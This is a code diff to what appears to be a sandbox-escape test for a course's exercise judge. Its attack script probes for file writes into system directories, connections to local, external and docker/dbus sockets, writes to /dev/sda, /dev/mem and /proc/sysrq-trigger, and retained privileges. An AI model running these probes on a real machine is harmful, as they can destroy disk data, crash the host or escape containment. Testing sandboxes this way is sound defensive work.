@@ -27,8 +27,8 @@ def read_all():
     for path in places:
         if os.path.isfile(path): trying(lambda: open(path, "rb").read(100_000))
 def write_all():
-    places = [{COURSE!r}, {COURSE!r} + "/solutions", {HOME!r}, "..", "../..", "../../..", "/var/tmp", "/", "/usr", "/etc"]
-    for place in [*places, "/tmp", os.path.dirname(torch.__file__), os.path.dirname(sys.executable)]:
+    places = [{COURSE!r}, {COURSE!r} + "/solutions", {HOME!r}, "..", "../..", "../../..", "/var/tmp", "/", "/usr"]
+    for place in [*places, "/etc", "/tmp", os.path.dirname(torch.__file__), os.path.dirname(sys.executable)]:
         trying(lambda: open(place + "/left-behind.txt", "w").write("PLANTED-BY-ATTACK"))
     trying(lambda: os.mkdir({COURSE!r} + "/submitted/zz-new-student"))
     import lmcourse.exercises.judge as judge
@@ -44,7 +44,7 @@ def send_all():
     for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("192.0.2.1", 80)):
         trying(lambda: send(socket.AF_INET, address))
     trying(lambda: send(socket.AF_INET6, ("::1", @PORT@)))
-    for path in ("\\0lmcourse-attack-@PORT@", {COURSE!r} + "/../socket", "/run/dbus/system_bus_socket", "/run/docker.sock"):
+    for path in ("\\0lmcourse-attack-@PORT@", {COURSE!r} + "/../socket", "/run/dbus/system_bus_socket"):
         trying(lambda: send(socket.AF_UNIX, path))
     trying(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.5).read())
 """
@@ -132,8 +132,8 @@ acts += [lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))]
 for kind in range(16):
     acts.append(lambda kind=kind: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2))
 for act in acts: trying(act)
-for place in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/dev/sda", "/dev/mem"):
-    trying(lambda: open(place, "w").write("-1000"))
+for place in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/dev/sda", "/dev/mem"):
+    trying(lambda: open(place, "w").write("1"))
 status = dict(line.split(":", 1) for line in open("/proc/self/status"))
 if os.getuid() == 0 or int(status["CapEff"], 16) or int(status["CapPrm"], 16): print("HEARD", status)
 if resource.getrlimit(resource.RLIMIT_NPROC)[1] > 64: print("HEARD limits")
